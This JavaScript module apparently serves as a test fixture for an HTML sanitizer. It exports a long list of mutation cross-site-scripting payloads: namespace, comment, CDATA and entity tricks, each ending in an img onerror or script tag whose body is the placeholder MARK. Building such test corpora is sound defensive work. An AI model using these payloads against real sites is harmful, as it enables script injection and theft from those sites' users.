// Markup that reads as harmless, and as something else when it is written and read again.
export default (String.raw`
<noscript><p title="</noscript><img src=x onerror=MARK>">
<noscript>&lt;/noscript&gt;&lt;img src=x onerror=MARK&gt;</noscript>
<noscript><style></noscript><img src=x onerror=MARK></style>
<textarea><p title="</textarea><img src=x onerror=MARK>">
<title><p title="</title><img src=x onerror=MARK>">
<xmp><p title="</xmp><img src=x onerror=MARK>">
<noembed><p title="</noembed><img src=x onerror=MARK>">
<noframes><p title="</noframes><img src=x onerror=MARK>">
<iframe><p title="</iframe><img src=x onerror=MARK>">
<style><p title="</style><img src=x onerror=MARK>">
<script><p title="</script><img src=x onerror=MARK>">
<template><p title="</template><img src=x onerror=MARK>">
<select><p title="</select><img src=x onerror=MARK>">
<svg><style><p title="</style><img src=x onerror=MARK>">
<math><style><p title="</style><img src=x onerror=MARK>">
<svg></p><style><a id="</style><img src=x onerror=MARK>">
<svg><p><style><a title="</style><img src=x onerror=MARK>"></svg>
<math><p><style><a title="</style><img src=x onerror=MARK>"></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=MARK>
<form><div></form><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=MARK>">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror=MARK">
<math><mtext><table><mglyph><style><![CDATA[</style><img src=x onerror=MARK>]]>
<svg><mtext><table><style><!--</style><img title="--><img src=x onerror=MARK>">
<table><td><svg><desc><table><style><img src=x onerror=MARK></style></table></desc></svg>
<table><svg><foreignObject><table><td></svg><img src=x onerror=MARK>
<b><svg><desc></b><style></desc><img src=x onerror=MARK></style>
<a><svg><a><style></a><img src=x onerror=MARK></style></svg></a>
<!--><img src=x onerror=MARK>-->
<!---><img src=x onerror=MARK>-->
<!--!><img src=x onerror=MARK>-->
<!-- --!><img src=x onerror=MARK>-->
<!--[if IE]><img src=x onerror=MARK><![endif]-->
<!-- <!-- --><img src=x onerror=MARK>-->
<![CDATA[<img src=x onerror=MARK>]]>
<![CDATA[><img src=x onerror=MARK>]]>
<svg><![CDATA[</svg><img src=x onerror=MARK>]]></svg>
<?xml version="1.0"?><?php echo '<img src=x onerror=MARK>' ?>
<?><img src=x onerror=MARK>
</ ><img src=x onerror=MARK>
</#><img src=x onerror=MARK>
<//><img src=x onerror=MARK>
<%><img src=x onerror=MARK>
<!doctype html "><img src=x onerror=MARK>">
<p/title=">"<img src=x onerror=MARK>
<p a='"'b="'><img src=x onerror=MARK>
<p a="` + '`' + String.raw`"><img src=x onerror=MARK title="` + '`' + String.raw`">
<p a=` + '``' + String.raw`onmouseover=MARK>
<listing>
<img src=x onerror=MARK></listing>
<pre>

&lt;img src=x onerror=MARK&gt;</pre>
<p><table><p><svg><p><style></p><img src=x onerror=MARK></style>
<ruby><rt><svg><style><rt></style><img src=x onerror=MARK>
<dl><dt><select><dd><template></dd><img src=x onerror=MARK></template></select>
<option><p></option><img src=x onerror=MARK>
<button><p><button><img src=x onerror=MARK></button>
<nobr><nobr><img src=x onerror=MARK></nobr>
<a href=x><a href=y><img src=x onerror=MARK></a></a>
<h1><h2><img src=x onerror=MARK></h1></h2>
<table><caption><table><img src=x onerror=MARK></caption>
<table><colgroup><template><col></template><img src=x onerror=MARK>
<tr><td><img src=x onerror=MARK></td></tr>
<frameset><noframes></frameset></noframes><img src=x onerror=MARK>
<body><head><body><img src=x onerror=MARK></head>
<html><img src=x onerror=MARK></html>trailing<script>MARK</script>
<plaintext></plaintext><img src=x onerror=MARK>
<div><plaintext></div><script>MARK</script>
<svg><title><a id="</title><img src=x onerror=MARK>">
<svg></br><style><a title="</style><img src=x onerror=MARK>">
<svg><annotation-xml><foreignobject><style><!--</style><p id="--!><img src=x onerror=MARK>">
<svg><annotation-xml encoding="text/html"><style><img src=x onerror=MARK></style></annotation-xml></svg>
<math><annotation-xml encoding="TEXT/HTML"><style><!--</style><img title="--><img src=x onerror=MARK>">
<math><mi><mglyph><style><img src=x onerror=MARK></style></mglyph></mi></math>
<math><ms><malignmark><style><a title="</style><img src=x onerror=MARK>">
<template><s><template><s><img src=x onerror=MARK></s></template></s></template>
<template><svg><template><style></template><img src=x onerror=MARK></style>
<x/><title>&lt;/title&gt;&lt;img src=x onerror=MARK&gt;
<select><iframe><select><img src=x onerror=MARK>
<select><xmp></select><img src=x onerror=MARK></xmp>
<select><noscript></select><img src=x onerror=MARK></noscript>
<a>1</a><option><style><img src=x onerror=MARK></style></option>
<noscript><textarea></noscript><img src=x onerror=MARK></textarea>
<noscript><!--</noscript><img src=x onerror=MARK>-->
<?xml-stylesheet ><img src=x onerror=MARK>?>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "<img src=x onerror=MARK>">]>&e;
<!ELEMENT img><!ATTLIST img src CDATA "x"><img src=x onerror=MARK>
<svg><![CDATA[<style>]]></style><img src=x onerror=MARK></svg>
<math><![CDATA[><img src=x onerror=MARK>]]></math>
<style>/*<!--*/</style><img title="--><img src=x onerror=MARK>">
<textarea>&lt;/textarea&gt;<img src=x onerror=MARK></textarea>
<table><a title="</table><img src=x onerror=MARK>"><tr><td>x
<font color="</font><img src=x onerror=MARK>"><p><svg><font color=x><style></font><img src=x onerror=MARK></style>
<svg><font face=x><style><img src=x onerror=MARK></style></font></svg>
<p>&lt;img src=x onerror=MARK&gt;</p>
<p>&amp;lt;img src=x onerror=MARK&amp;gt;</p>
<p title="&lt;img src=x onerror=MARK&gt;">&lt</p>
<p>&ltimg src=x onerror=MARK></p>
<p>&#60;img src=x onerror=MARK&#62;</p>
<p>&#x3c;script&#x3e;MARK&#x3c;/script&#x3e;</p>
<p>＜script＞MARK＜/script＞</p>
<p>+ADw-script+AD4-MARK+ADw-/script+AD4-</p>`).trim().split(/\n(?=[<])/);
